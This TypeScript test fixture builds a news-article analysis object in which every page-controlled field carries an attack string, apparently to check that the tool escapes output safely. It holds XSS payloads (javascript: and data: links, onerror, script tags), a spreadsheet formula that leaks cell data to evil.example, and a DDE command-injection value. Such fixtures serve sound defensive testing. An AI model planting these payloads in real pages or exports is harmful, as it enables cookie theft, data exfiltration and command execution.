/** An analysis whose every page-controlled string carries an attack (issue 18, attack 8). */
import { Analysis, selectorFor } from '../../../lib/schema';

export const ATTACKS = {
  link: '[read more](javascript:alert(document.cookie))',
  dataLink: '[pic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  img: '<img src=x onerror=alert(1)>',
  script: '<script>alert(1)</script>',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  autolink: '<javascript:alert(1)>',
  image: '![x](javascript:alert(1))',
  entity: '&lt;script&gt;',
};

export function hostileAnalysis(): Analysis {
  const text = `${ATTACKS.formula} said the ${ATTACKS.img} minister. «${ATTACKS.link} ${ATTACKS.script}» he added.`;
  const qStart = text.indexOf(ATTACKS.link);
  const qEnd = text.indexOf('»');
  const span = { start: qStart, end: qEnd, block: 0, selector: selectorFor(text, qStart, qEnd) };
  return Analysis.parse({
    version: 1,
    isArticle: true,
    detection: { isArticle: true, score: 1, signals: [] },
    article: {
      title: `${ATTACKS.script} ${ATTACKS.link}`,
      byline: ATTACKS.img,
      published: '2023-11-05T13:40:00+05:00',
      publisher: ATTACKS.formula,
      url: 'https://news.example/a?b=1',
      language: 'en',
      text,
    },
    languageGuess: null,
    quotes: [
      { ...span, text: text.slice(qStart, qEnd), kind: 'direct', speaker: ATTACKS.formula, cue: ATTACKS.image },
      { ...span, text: ATTACKS.dataLink, kind: 'indirect', speaker: null, speakerRef: '@SUM(1+1)*cmd|/C calc!A0', cue: '+1' },
    ],
    people: [{ name: ATTACKS.formula, roles: [ATTACKS.img, ATTACKS.autolink], mentions: 1, latin: [{ system: 'x', latin: ATTACKS.entity }] }],
    sources: [
      { name: ATTACKS.link, kind: 'link', evidence: ATTACKS.script, url: 'javascript:alert(1)' },
      { name: 'Agency', kind: 'agency', evidence: 'said Agency', url: 'https://agency.example/x y(1)' },
    ],
    glossary: [{ term: ATTACKS.image, country: 'kz', explanation: ATTACKS.dataLink, matches: [] }],
    timings: {},
  });
}
